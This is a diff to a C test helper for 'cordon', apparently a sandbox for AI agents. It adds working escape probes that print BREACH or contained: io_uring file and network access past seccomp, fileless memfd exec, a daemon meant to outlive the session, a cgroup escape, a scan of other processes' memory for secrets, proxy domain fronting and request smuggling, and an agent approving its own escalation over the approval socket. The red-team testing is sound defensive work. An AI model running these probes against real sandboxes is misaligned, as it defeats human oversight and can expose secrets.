@@ -4,16 +4,24 @@
  * Run inside `cordon run` by the host and VM tests (and the red-team
  * harness).  Prints one line, "contained: ERRNO-NAME (what)" or
  * "BREACH: what", and exits 0 when contained, 1 on a breach, 2 on misuse.
- * It only tries; it never decides what should happen (the tests do).
+ * "contained: - (what)" is a refusal no errno carries (a proxy's status, an
+ * approval socket's answer, a search that found nothing).
+ * It only tries; it never decides what should happen (the tests do).  Run
+ * outside any sandbox (the harness's negative control), most attacks must
+ * print BREACH: each one really performs what it names, with raw syscalls,
+ * and reports a breach only when it got through.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/bpf.h>
+#include <linux/io_uring.h>
 #include <netinet/in.h>
 #include <sched.h>
 #include <stdbool.h>
+#include <stdarg.h>
 #include <stddef.h>
 #include <signal.h>
 #include <stdio.h>
@@ -25,6 +33,7 @@
 #include <sys/mount.h>
 #include <sys/stat.h>
 #include <sys/ptrace.h>
+#include <sys/random.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/un.h>
@@ -40,6 +49,9 @@
 #ifndef AF_ALG
 #define AF_ALG 38
 #endif
+#ifndef MFD_EXEC
+#define MFD_EXEC 0x0010U        /* Linux 6.3; the 6.1 headers lack it */
+#endif
 
 static int verdict(int rc, int err, const char *what)
 {
@@ -48,6 +60,33 @@ static int verdict(int rc, int err, const char *what)
 		return 0;
 	}
 	printf("BREACH: %s\n", what);
+	return 1;
+}
+
+/* "contained: - (...)": stopped, but no errno says so. */
+static int held(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
+static int held(const char *fmt, ...)
+{
+	va_list ap;
+
+	printf("contained: - (");
+	va_start(ap, fmt);
+	vprintf(fmt, ap);
+	va_end(ap);
+	printf(")\n");
+	return 0;
+}
+
+static int breach(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
+static int breach(const char *fmt, ...)
+{
+	va_list ap;
+
+	printf("BREACH: ");
+	va_start(ap, fmt);
+	vprintf(fmt, ap);
+	va_end(ap);
+	printf("\n");
 	return 1;
 }
 
@@ -333,6 +372,756 @@ static int connect_race(int allowed, int forbidden, int n)
 	return 0;
 }
 
+/*
+ * io_uring: the same open, read and connect as their syscalls, but carried
+ * out by the kernel from a ring, where a seccomp filter on openat/connect
+ * never sees them.  Only the LSM hooks (the floor) can stop these.
+ */
+struct uring {
+	int fd;
+	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
+	struct io_uring_sqe *sqes;
+	struct io_uring_cqe *cqes;
+};
+
+static int uring_open(struct uring *u)
+{
+	struct io_uring_params p;
+	size_t sq_len, cq_len;
+	char *sq, *cq;
+
+	memset(&p, 0, sizeof(p));
+	u->fd = (int)syscall(SYS_io_uring_setup, 4, &p);
+	if (u->fd < 0)
+		return -errno;
+	sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
+	cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
+	if (p.features & IORING_FEAT_SINGLE_MMAP)
+		sq_len = cq_len = sq_len > cq_len ? sq_len : cq_len;
+	sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, u->fd,
+		  IORING_OFF_SQ_RING);
+	if (sq == MAP_FAILED)
+		return -errno;
+	cq = sq;
+	if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
+		cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, u->fd,
+			  IORING_OFF_CQ_RING);
+		if (cq == MAP_FAILED)
+			return -errno;
+	}
+	u->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
+		       MAP_SHARED | MAP_POPULATE, u->fd, IORING_OFF_SQES);
+	if (u->sqes == MAP_FAILED)
+		return -errno;
+	u->sq_tail = (unsigned *)(sq + p.sq_off.tail);
+	u->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
+	u->sq_array = (unsigned *)(sq + p.sq_off.array);
+	u->cq_head = (unsigned *)(cq + p.cq_off.head);
+	u->cq_tail = (unsigned *)(cq + p.cq_off.tail);
+	u->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
+	u->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
+	return 0;
+}
+
+/* Submits one SQE and waits for its completion: the CQE's res (a negative errno on failure). */
+static int uring_run(struct uring *u, const struct io_uring_sqe *sqe)
+{
+	unsigned tail = *u->sq_tail, i = tail & *u->sq_mask, head;
+	int res;
+
+	u->sqes[i] = *sqe;
+	u->sq_array[i] = i;
+	__atomic_store_n(u->sq_tail, tail + 1, __ATOMIC_RELEASE);
+	if (syscall(SYS_io_uring_enter, u->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
+		return -errno;
+	head = *u->cq_head;
+	while (head == __atomic_load_n(u->cq_tail, __ATOMIC_ACQUIRE))
+		if (syscall(SYS_io_uring_enter, u->fd, 0, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0 &&
+		    errno != EINTR)
+			return -errno;
+	res = u->cqes[head & *u->cq_mask].res;
+	__atomic_store_n(u->cq_head, head + 1, __ATOMIC_RELEASE);
+	return res;
+}
+
+static int iouring_read(const char *path)
+{
+	struct io_uring_sqe sqe;
+	struct uring u;
+	char buf[16];
+	int r, fd;
+
+	r = uring_open(&u);
+	if (r < 0)
+		return verdict(-1, -r, "io_uring_setup");
+	memset(&sqe, 0, sizeof(sqe));
+	sqe.opcode = IORING_OP_OPENAT;
+	sqe.fd = AT_FDCWD;
+	sqe.addr = (uintptr_t)path;
+	sqe.open_flags = O_RDONLY;
+	fd = uring_run(&u, &sqe);
+	if (fd < 0)
+		return verdict(-1, -fd, "io_uring openat");
+	memset(&sqe, 0, sizeof(sqe));
+	sqe.opcode = IORING_OP_READ;
+	sqe.fd = fd;
+	sqe.addr = (uintptr_t)buf;
+	sqe.len = sizeof(buf);
+	r = uring_run(&u, &sqe);
+	return verdict(r, -r, r < 0 ? "io_uring read, after its openat succeeded" : "io_uring openat+read");
+}
+
+static int iouring_connect(const char *host, int port)
+{
+	struct sockaddr_storage ss;
+	struct io_uring_sqe sqe;
+	struct uring u;
+	socklen_t len;
+	int fam = inet_addr_of(host, port, &ss, &len), fd, r;
+
+	if (fam < 0)
+		return 2;
+	fd = socket(fam, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (fd < 0)
+		return verdict(fd, errno, "socket");
+	r = uring_open(&u);
+	if (r < 0)
+		return verdict(-1, -r, "io_uring_setup");
+	memset(&sqe, 0, sizeof(sqe));
+	sqe.opcode = IORING_OP_CONNECT;
+	sqe.fd = fd;
+	sqe.addr = (uintptr_t)&ss;
+	sqe.off = len;          /* IORING_OP_CONNECT takes the address length here */
+	r = uring_run(&u, &sqe);
+	return verdict(r, -r, "io_uring connect");
+}
+
+/*
+ * Executes FD (fexecve, or execveat(fd, "", AT_EMPTY_PATH)) in a child.  A
+ * close-on-exec pipe tells an exec that happened (EOF) from one refused (the
+ * child writes its errno); a breach is an exec that happened and exited 0.
+ */
+static int exec_fd_in_child(int fd, const char *argv0, bool fexec, const char *what)
+{
+	char *av[] = { (char *)argv0, NULL };
+	int p[2], e = 0, st = 0;
+	pid_t pid;
+	ssize_t n;
+
+	if (pipe2(p, O_CLOEXEC) < 0 || (pid = fork()) < 0)
+		return verdict(-1, errno, "pipe or fork");
+	if (pid == 0) {
+		close(p[0]);
+		if (fexec)
+			fexecve(fd, av, environ);
+		else
+			syscall(SYS_execveat, fd, "", av, environ, AT_EMPTY_PATH);
+		e = errno;
+		(void)!write(p[1], &e, sizeof(e));
+		_exit(99);
+	}
+	close(p[1]);
+	n = read(p[0], &e, sizeof(e));
+	waitpid(pid, &st, 0);
+	if (n == sizeof(e))
+		return verdict(-1, e, what);
+	if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
+		return verdict(0, 0, what);
+	if (WIFSIGNALED(st))
+		return held("%s: the exec happened, then signal %d killed it", what, WTERMSIG(st));
+	return held("%s: the exec happened, then it exited %d", what, WEXITSTATUS(st));
+}
+
+static int memfd_exec(void)
+{
+	char buf[65536];
+	ssize_t n;
+	int in, fd;
+
+	fd = memfd_create("agent", MFD_CLOEXEC | MFD_EXEC);
+	if (fd < 0 && errno == EINVAL)  /* a kernel before 6.3: executable by default */
+		fd = memfd_create("agent", MFD_CLOEXEC);
+	if (fd < 0)
+		return verdict(fd, errno, "memfd_create");
+	in = open("/bin/true", O_RDONLY | O_CLOEXEC);
+	if (in < 0)
+		return verdict(in, errno, "open /bin/true to copy it");
+	while ((n = read(in, buf, sizeof(buf))) > 0)
+		if (write(fd, buf, (size_t)n) != n)
+			return verdict(-1, errno, "copy /bin/true into the memfd");
+	if (n < 0)
+		return verdict(-1, errno, "read /bin/true");
+	close(in);
+	return exec_fd_in_child(fd, "true", true, "fileless exec from a memfd");
+}
+
+static int execveat_empty(const char *path)
+{
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+
+	if (fd < 0)
+		fd = open(path, O_PATH | O_CLOEXEC);
+	if (fd < 0)
+		return verdict(fd, errno, "open (O_RDONLY, then O_PATH)");
+	return exec_fd_in_child(fd, path, false, "execveat(AT_EMPTY_PATH)");
+}
+
+/*
+ * A daemon (double fork, setsid, stdio and every other descriptor closed)
+ * that writes its pid to PIDFILE and sleeps SECONDS.  It only spawns: the
+ * harness checks afterwards whether that pid outlived the session.  The
+ * parent waits (a pipe's EOF) until the pid file is written.
+ */
+static int daemon_spawn(const char *pidfile, int secs)
+{
+	int p[2], e = 0;
+	pid_t pid;
+
+	if (pipe2(p, O_CLOEXEC) < 0 || (pid = fork()) < 0)
+		return verdict(-1, errno, "pipe or fork");
+	if (pid == 0) {
+		int nul, fd;
+		pid_t g;
+
+		close(p[0]);
+		if (setsid() < 0 || (g = fork()) < 0) {
+			e = errno;
+			(void)!write(p[1], &e, sizeof(e));
+			_exit(1);
+		}
+		if (g > 0)
+			_exit(0);
+		(void)!chdir("/");
+		nul = open("/dev/null", O_RDWR);
+		for (int i = 0; i < 3; i++)
+			if (nul < 0 || dup2(nul, i) < 0)
+				close(i);
+		fd = open(pidfile, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
+		if (fd < 0 || dprintf(fd, "%d\n", (int)getpid()) < 0) {
+			e = errno;
+			(void)!write(p[1], &e, sizeof(e));
+			_exit(1);
+		}
+		close(p[1]);    /* the parent's signal that the pid file is written */
+		syscall(SYS_close_range, 3, ~0U, 0);
+		sleep((unsigned)secs);
+		_exit(0);
+	}
+	close(p[1]);
+	waitpid(pid, NULL, 0);
+	if (read(p[0], &e, sizeof(e)) == sizeof(e))
+		return verdict(-1, e, "daemon: setsid, fork or its pid file");
+	printf("contained: - (daemon spawned; the harness checks it dies with the session)\n");
+	return 0;
+}
+
+/* The path of the own cgroup v2 ("0::PATH" in /proc/self/cgroup), or -errno. */
+static int own_cgroup(char *buf, size_t len)
+{
+	char line[4096];
+	FILE *f = fopen("/proc/self/cgroup", "re");
+
+	if (!f)
+		return -errno;
+	while (fgets(line, sizeof(line), f)) {
+		if (strncmp(line, "0::", 3))
+			continue;
+		line[strcspn(line, "\n")] = '\0';
+		snprintf(buf, len, "%s", line + 3);
+		fclose(f);
+		return 0;
+	}
+	fclose(f);
+	return -ENOENT;
+}
+
+/* Where cgroup2 is mounted (/sys/fs/cgroup, or .../unified on a hybrid host), or -errno. */
+static int cgroup2_mount(char *buf, size_t len)
+{
+	char line[4096], mnt[2048];
+	FILE *f = fopen("/proc/self/mountinfo", "re");
+
+	if (!f)
+		return -errno;
+	while (fgets(line, sizeof(line), f)) {
+		if (!strstr(line, " - cgroup2 ") || sscanf(line, "%*s %*s %*s %*s %2047s", mnt) != 1)
+			continue;
+		snprintf(buf, len, "%s", mnt);
+		fclose(f);
+		return 0;
+	}
+	fclose(f);
+	return -ENOENT;
+}
+
+/*
+ * Moves itself to the root cgroup, then to the parent cgroup, by writing its
+ * pid into their cgroup.procs: out of the session's cgroup is out of its
+ * limits, of the kill that ends the session and of what the approval socket
+ * trusts (approve.c reads the peer's cgroup).
+ */
+static int cgroup_escape(void)
+{
+	char mnt[2048], before[4096], now[4096], procs[2][6200], pid[16];
+	const char *what = "";
+	int r, err = 0;
+
+	r = cgroup2_mount(mnt, sizeof(mnt));
+	if (r < 0)
+		return verdict(r, -r, "find the cgroup2 mount in /proc/self/mountinfo");
+	r = own_cgroup(before, sizeof(before));
+	if (r < 0)
+		return verdict(r, -r, "read the 0:: line of /proc/self/cgroup");
+	if (!strcmp(before, "/"))
+		return held("already in the root cgroup: nothing to escape from");
+	snprintf(pid, sizeof(pid), "%d", (int)getpid());
+	snprintf(procs[0], sizeof(procs[0]), "%s/cgroup.procs", mnt);
+	snprintf(procs[1], sizeof(procs[1]), "%s%.*s/cgroup.procs", mnt,
+		 (int)(strrchr(before, '/') - before), before);
+	for (int i = 0; i < 2; i++) {
+		int fd = open(procs[i], O_WRONLY | O_CLOEXEC);
+
+		if (fd < 0 || write(fd, pid, strlen(pid)) < 0) {
+			err = errno;
+			what = i ? "write the own pid to the parent cgroup's cgroup.procs"
+				 : "write the own pid to the root cgroup's cgroup.procs";
+			if (fd >= 0)
+				close(fd);
+			continue;
+		}
+		close(fd);
+		if (own_cgroup(now, sizeof(now)) == 0 && strcmp(now, before))
+			return breach("moved from cgroup %s to %s (via %s)", before, now, procs[i]);
+	}
+	if (err)
+		return verdict(-1, err, what);
+	return held("both writes accepted, still in cgroup %s", before);
+}
+
+/* Up to LEN bytes of a /proc file; the count, or -errno. */
+static ssize_t slurp(const char *path, char *buf, size_t len)
+{
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	size_t got = 0;
+	ssize_t n = 0;
+
+	if (fd < 0)
+		return -errno;
+	while (got < len && (n = read(fd, buf + got, len - got)) > 0)
+		got += (size_t)n;
+	if (n < 0 && !got) {
+		n = -errno;
+		close(fd);
+		return n;
+	}
+	close(fd);
+	return (ssize_t)got;
+}
+
+/*
+ * Whether [LO, HI) of /proc/PID/mem (MEM) holds NEEDLE, reading through BUF
+ * (BUFLEN bytes) and spending at most *BUDGET bytes; *READ set if any byte
+ * came back.  Chunks overlap by the needle's length less one.
+ */
+static bool mem_has(int mem, unsigned long lo, unsigned long hi, const char *needle, char *buf,
+		    size_t buflen, size_t *budget, bool *read_any)
+{
+	size_t nl = strlen(needle), keep = 0;
+
+	for (unsigned long at = lo; at < hi && *budget;) {
+		size_t want = buflen - keep;
+		ssize_t n;
+
+		if (want > hi - at)
+			want = hi - at;
+		if (want > *budget)
+			want = *budget;
+		n = pread(mem, buf + keep, want, (off_t)at);
+		if (n <= 0)
+			return false;
+		*read_any = true;
+		*budget -= (size_t)n;
+		at += (unsigned long)n;
+		if (memmem(buf, keep + (size_t)n, needle, nl))
+			return true;
+		keep += (size_t)n;
+		if (keep > nl - 1) {
+			memmove(buf, buf + keep - (nl - 1), nl - 1);
+			keep = nl - 1;
+		}
+	}
+	return false;
+}
+
+/*
+ * Searches every visible process but itself for NEEDLE: environ, cmdline,
+ * and the writable or anonymous private mappings through /proc/PID/mem (64
+ * MiB per process).  `env:VAR` takes the needle from $VAR, so that it is on
+ * no command line.
+ */
+static int find_secret(const char *arg)
+{
+	const char *needle = arg, *what[] = { "environ", "cmdline" };
+	size_t buflen = 1 << 20;
+	char *buf = malloc(buflen);
+	int n_proc = 0, n_env = 0, n_mem = 0;
+	struct dirent *e;
+	DIR *d;
+
+	if (!strncmp(arg, "env:", 4))
+		needle = getenv(arg + 4);
+	if (!needle || !*needle || !buf) {
+		fprintf(stderr, "find-secret: no needle (%s)\n", arg);
+		return 2;
+	}
+	d = opendir("/proc");
+	if (!d)
+		return verdict(-1, errno, "opendir /proc");
+	while ((e = readdir(d))) {
+		char p[64], line[4096], comm[32] = "";
+		int pid = atoi(e->d_name), mem;
+		size_t budget = 64u << 20;
+		bool read_any = false;
+		FILE *maps;
+
+		if (pid <= 0 || pid == getpid())
+			continue;
+		n_proc++;
+		snprintf(p, sizeof(p), "/proc/%d/comm", pid);
+		if (slurp(p, comm, sizeof(comm) - 1) > 0)
+			comm[strcspn(comm, "\n")] = '\0';
+		for (int i = 0; i < 2; i++) {
+			ssize_t n;
+
+			snprintf(p, sizeof(p), "/proc/%d/%s", pid, what[i]);
+			n = slurp(p, buf, buflen);
+			if (n >= 0 && i == 0)
+				n_env++;
+			if (n > 0 && memmem(buf, (size_t)n, needle, strlen(needle)))
+				return breach("%s found in %d/%s (%s)", arg, pid, what[i], comm);
+		}
+		snprintf(p, sizeof(p), "/proc/%d/maps", pid);
+		maps = fopen(p, "re");
+		if (!maps)
+			continue;
+		snprintf(p, sizeof(p), "/proc/%d/mem", pid);
+		mem = open(p, O_RDONLY | O_CLOEXEC);
+		while (mem >= 0 && budget && fgets(line, sizeof(line), maps)) {
+			unsigned long lo, hi;
+			char perms[8], *name;
+			int off = 0;
+
+			if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %n", &lo, &hi, perms, &off) < 3 || !off)
+				continue;
+			name = line + off;
+			/* Secrets live in data, heap, stack and anonymous memory, not in code. */
+			if (perms[0] != 'r' || perms[3] != 'p' || !strncmp(name, "[v", 2) ||
+			    (perms[1] != 'w' && name[0] != '\n' && name[0] != '['))
+				continue;
+			if (mem_has(mem, lo, hi, needle, buf, buflen, &budget, &read_any)) {
+				name[strcspn(name, "\n")] = '\0';
+				return breach("%s found in %d/mem at %lx-%lx %s (%s)", arg, pid, lo, hi,
+					      *name ? name : "[anon]", comm);
+			}
+		}
+		n_mem += read_any;
+		if (mem >= 0)
+			close(mem);
+		fclose(maps);
+	}
+	closedir(d);
+	free(buf);
+	return held("searched %d processes: environ of %d, mem of %d", n_proc, n_env, n_mem);
+}
+
+/*
+ * Another process's memory through /proc/PID/mem: opened for writing (the
+ * kernel's ptrace-attach check), else read 16 bytes of its first readable
+ * mapping (the ptrace-read check of /proc/PID/maps and of mem).
+ */
+static int proc_mem(const char *pid)
+{
+	char p[64], line[4096], perms[8], buf[16], what[96];
+	unsigned long lo = 0, hi;
+	bool found = false;
+	ssize_t n;
+	FILE *maps;
+	int fd;
+
+	snprintf(p, sizeof(p), "/proc/%s/mem", pid);
+	fd = open(p, O_RDWR | O_CLOEXEC);
+	if (fd >= 0)
+		return breach("opened %s's memory for writing", pid);
+	fd = open(p, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return verdict(fd, errno, "open /proc/PID/mem");
+	snprintf(p, sizeof(p), "/proc/%s/maps", pid);
+	maps = fopen(p, "re");
+	if (!maps)
+		return verdict(-1, errno, "open /proc/PID/maps");
+	while (!found && fgets(line, sizeof(line), maps))
+		found = sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[0] == 'r';
+	fclose(maps);
+	if (!found)
+		return held("no readable mapping in /proc/%s/maps", pid);
+	n = pread(fd, buf, sizeof(buf), (off_t)lo);
+	snprintf(what, sizeof(what), "read %s's memory", pid);
+	return verdict(n == sizeof(buf) ? 0 : -1, n < 0 ? errno : EIO, what);
+}
+
+static int link_read(const char *target, const char *lnk, bool hard)
+{
+	char buf[64];
+	ssize_t n = -1;
+	int fd, e;
+
+	if ((hard ? link(target, lnk) : symlink(target, lnk)) < 0)
+		return verdict(-1, errno, hard ? "link" : "symlink");
+	fd = open(lnk, O_RDONLY | O_CLOEXEC);
+	if (fd >= 0)
+		n = read(fd, buf, sizeof(buf));
+	e = errno;
+	(void)unlink(lnk);
+	if (n > 0)
+		return breach("read %s through a %s", target, hard ? "hard link" : "symlink");
+	if (n == 0)
+		return held("%s through the link reads empty", target);
+	return verdict(-1, e, hard ? "open+read through the hard link" : "open+read through the symlink");
+}
+
+/* A TCP connection to the egress broker on 127.0.0.1:PORT (5 s read timeout), or -errno. */
+static int proxy_dial(int port)
+{
+	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port),
+				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	struct timeval tv = { .tv_sec = 5 };
+	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), e;
+
+	if (fd < 0)
+		return -errno;
+	(void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
+	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
+		e = errno;
+		close(fd);
+		return -e;
+	}
+	return fd;
+}
+
+/*
+ * Reads a response head up to its blank line, byte by byte (nothing after it
+ * is consumed); leaves its status line in BUF.  The status code, 0 if the
+ * peer closed or answered no HTTP status, -errno on a failed read.
+ */
+static int read_status(int fd, char *buf, size_t len)
+{
+	size_t got = 0;
+	int code = 0;
+
+	while (got + 1 < len) {
+		ssize_t n = recv(fd, buf + got, 1, 0);
+
+		if (n < 0 && !got)
+			return errno == EAGAIN ? -ETIMEDOUT : -errno;
+		if (n <= 0)
+			break;
+		got++;
+		if (got >= 4 && !memcmp(buf + got - 4, "\r\n\r\n", 4))
+			break;
+	}
+	buf[got] = '\0';
+	buf[strcspn(buf, "\r\n")] = '\0';
+	if (sscanf(buf, "HTTP/%*d.%*d %d", &code) != 1)
+		return 0;
+	return code;
+}
+
+#define PUT8(v) (b[n++] = (unsigned char)(v))
+#define PUT16(v) (PUT8((v) >> 8), PUT8(v))
+#define PUTN(p, len) (memcpy(b + n, (p), (len)), n += (len))
+
+/*
+ * A ClientHello as a current client sends it, in a TLS 1.2-format record:
+ * TLS 1.3 and 1.2 offered, server_name SNI, an x25519 key share of 32 random
+ * bytes (any 32 bytes are a valid x25519 public key).  Its length in B (at
+ * least 600 bytes); SNI at most 255 bytes.
+ */
+static size_t client_hello(unsigned char *b, const char *sni)
+{
+	static const uint16_t suites[] = { 0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030 };
+	static const uint16_t sigs[] = { 0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601 };
+	size_t n = 0, hs, ext, sl = strlen(sni);
+	unsigned char rnd[96];
+
+	if (getrandom(rnd, sizeof(rnd), 0) != sizeof(rnd))
+		memset(rnd, 0x5a, sizeof(rnd));
+	PUT8(0x16); PUT16(0x0301); PUT16(0);                    /* record; length below */
+	hs = n;
+	PUT8(1); PUT8(0); PUT16(0);                             /* ClientHello; length below */
+	PUT16(0x0303);
+	PUTN(rnd, 32);
+	PUT8(32);                                               /* legacy session id */
+	PUTN(rnd + 32, 32);
+	PUT16(2 * sizeof(suites) / sizeof(suites[0]));
+	for (size_t i = 0; i < sizeof(suites) / sizeof(suites[0]); i++)
+		PUT16(suites[i]);
+	PUT8(1); PUT8(0);                                       /* compression: null */
+	ext = n;
+	PUT16(0);                                               /* extensions; length below */
+	PUT16(0x0000); PUT16(sl + 5); PUT16(sl + 3); PUT8(0); PUT16(sl);        /* server_name */
+	PUTN(sni, sl);
+	PUT16(0x000b); PUT16(2); PUT8(1); PUT8(0);              /* ec_point_formats */
+	PUT16(0x000a); PUT16(6); PUT16(4); PUT16(0x001d); PUT16(0x0017);        /* supported_groups */
+	PUT16(0x000d); PUT16(2 + sizeof(sigs)); PUT16(sizeof(sigs));            /* signature_algorithms */
+	for (size_t i = 0; i < sizeof(sigs) / sizeof(sigs[0]); i++)
+		PUT16(sigs[i]);
+	PUT16(0x002b); PUT16(5); PUT8(4); PUT16(0x0304); PUT16(0x0303);         /* supported_versions */
+	PUT16(0x0033); PUT16(38); PUT16(36); PUT16(0x001d); PUT16(32);          /* key_share: x25519 */
+	PUTN(rnd + 64, 32);
+	b[ext] = (unsigned char)((n - ext - 2) >> 8);
+	b[ext + 1] = (unsigned char)(n - ext - 2);
+	b[hs + 2] = (unsigned char)((n - hs - 4) >> 8);
+	b[hs + 3] = (unsigned char)(n - hs - 4);
+	b[3] = (unsigned char)((n - 5) >> 8);
+	b[4] = (unsigned char)(n - 5);
+	return n;
+}
+#undef PUT8
+#undef PUT16
+#undef PUTN
+
+/*
+ * Domain fronting through the broker: CONNECT to HOST:PORT (allowed), then a
+ * ClientHello naming SNI (another host).  A TLS record back (a handshake or
+ * an alert from the server) means the broker relayed it.
+ */
+static int sni_mismatch(int pport, const char *host, const char *port, const char *sni)
+{
+	unsigned char hello[1024];
+	char req[1024], st[4096], what[600];
+	int fd = proxy_dial(pport), code;
+	size_t len;
+	ssize_t n;
+
+	if (strlen(sni) > 255)
+		return 2;
+	if (fd < 0)
+		return verdict(fd, -fd, "connect to the proxy");
+	snprintf(req, sizeof(req), "CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\n\r\n", host, port, host, port);
+	if (send(fd, req, strlen(req), MSG_NOSIGNAL) < 0)
+		return verdict(-1, errno, "send CONNECT");
+	code = read_status(fd, st, sizeof(st));
+	if (code < 0)
+		return verdict(code, -code, "read the CONNECT answer");
+	if (code != 200)
+		return held("CONNECT refused: %s", *st ? st : "no status line");
+	len = client_hello(hello, sni);
+	if (send(fd, hello, len, MSG_NOSIGNAL) < 0)
+		return verdict(-1, errno, "send the ClientHello");
+	n = recv(fd, hello, 1, 0);
+	snprintf(what, sizeof(what), "the proxy relayed a ClientHello for %s to %s", sni, host);
+	if (n == 1 && (hello[0] == 0x16 || hello[0] == 0x15))
+		return breach("%s (answered with a TLS %s)", what, hello[0] == 0x16 ? "handshake" : "alert");
+	if (n == 1)
+		return held("the tunnel answered byte 0x%02x, not a TLS record", hello[0]);
+	if (n == 0)
+		return held("the proxy closed the tunnel after the ClientHello for %s", sni);
+	return verdict(-1, errno == EAGAIN ? ETIMEDOUT : errno, "the ClientHello went unanswered");
+}
+
+/* CL.TE request smuggling: Content-Length and chunked together, which a proxy must refuse. */
+static int smuggle(int pport, const char *host, const char *port)
+{
+	char req[1024], st[4096];
+	int fd = proxy_dial(pport), code;
+
+	if (fd < 0)
+		return verdict(fd, -fd, "connect to the proxy");
+	snprintf(req, sizeof(req),
+		 "POST http://%s:%s/x HTTP/1.1\r\nHost: %s:%s\r\nContent-Length: 4\r\n"
+		 "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", host, port, host, port);
+	if (send(fd, req, strlen(req), MSG_NOSIGNAL) < 0)
+		return verdict(-1, errno, "send the request");
+	code = read_status(fd, st, sizeof(st));
+	if (code < 0)
+		return verdict(code, -code, "read the answer");
+	if (code == 0)
+		return held("no HTTP status: %s", *st ? st : "closed");
+	if (code >= 400 && code < 500)
+		return held("%s", st);
+	return breach("the proxy forwarded a request with Content-Length and chunked: %s", st);
+}
+
+/*
+ * One request line to the approval socket, the one-line answer in REP; 0 or
+ * -errno.  A refused peer is answered at once and closed, maybe before the
+ * request is sent (EPIPE): the answer is still read.
+ */
+static int approve_ask(const char *sock, const char *req, char *rep, size_t len)
+{
+	struct sockaddr_un a;
+	socklen_t l = unix_addr(sock, false, &a);
+	size_t got = 0;
+	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), e = 0;
+
+	if (fd < 0)
+		return -errno;
+	if (connect(fd, (struct sockaddr *)&a, l) < 0) {
+		e = errno;
+		close(fd);
+		return -e;
+	}
+	if (send(fd, req, strlen(req), MSG_NOSIGNAL) < 0)
+		e = errno;
+	while (got + 1 < len) {
+		ssize_t n = recv(fd, rep + got, len - 1 - got, 0);
+
+		if (n <= 0)
+			break;
+		got += (size_t)n;
+		if (memchr(rep, '\n', got))
+			break;
+	}
+	close(fd);
+	rep[got] = '\0';
+	rep[strcspn(rep, "\n")] = '\0';
+	return got || !e ? 0 : -e;
+}
+
+/*
+ * The agent approving its own escalation: speaks approve.sock the way
+ * `cordon pending` and `cordon approve ID` do (one JSON line each way, one
+ * request per connection).  Without ID, the first pending request.
+ */
+static int approve_self(const char *sock, const char *id_s)
+{
+	char rep[65536], req[128];
+	const char *p;
+	long id;
+	int r;
+
+	if (!id_s) {
+		r = approve_ask(sock, "{\"cmd\":\"pending\"}", rep, sizeof(rep));
+		if (r < 0)
+			return verdict(r, -r, "connect to the approval socket");
+		p = strstr(rep, "\"pending\":[");
+		if (!p)
+			return held("pending: the approval socket answered %.300s", *rep ? rep : "nothing");
+		p = strstr(p, "\"id\":");
+		if (!p)
+			return held("nothing pending to approve");
+		id_s = p + 5;
+	}
+	id = strtol(id_s, NULL, 10);
+	snprintf(req, sizeof(req), "{\"cmd\":\"approve\",\"id\":%ld,\"session\":false}", id);
+	r = approve_ask(sock, req, rep, sizeof(rep));
+	if (r < 0)
+		return verdict(r, -r, "connect to the approval socket");
+	if (strstr(rep, "\"ok\":true"))
+		return breach("the approval socket approved request %ld (%.200s)", id, rep);
+	return held("approve %ld: the approval socket answered %.300s", id, *rep ? rep : "nothing");
+}
+
 int main(int argc, char **argv)
 {
 	const char *a = argc > 1 ? argv[1] : "";
@@ -504,10 +1293,39 @@ int main(int argc, char **argv)
 		execv(x, argv + 2);
 		return verdict(-1, errno, "exec");
 	}
+	if (!strcmp(a, "iouring-read") && argc == 3)
+		return iouring_read(x);
+	if (!strcmp(a, "iouring-connect") && argc == 4)
+		return iouring_connect(x, atoi(y));
+	if (!strcmp(a, "memfd-exec"))
+		return memfd_exec();
+	if (!strcmp(a, "execveat-empty") && argc == 3)
+		return execveat_empty(x);
+	if (!strcmp(a, "daemon") && argc == 4)
+		return daemon_spawn(x, atoi(y));
+	if (!strcmp(a, "cgroup-escape"))
+		return cgroup_escape();
+	if (!strcmp(a, "find-secret") && argc == 3)
+		return find_secret(x);
+	if (!strcmp(a, "proc-mem") && argc == 3)
+		return proc_mem(x);
+	if ((!strcmp(a, "symlink") || !strcmp(a, "hardlink")) && argc == 4)
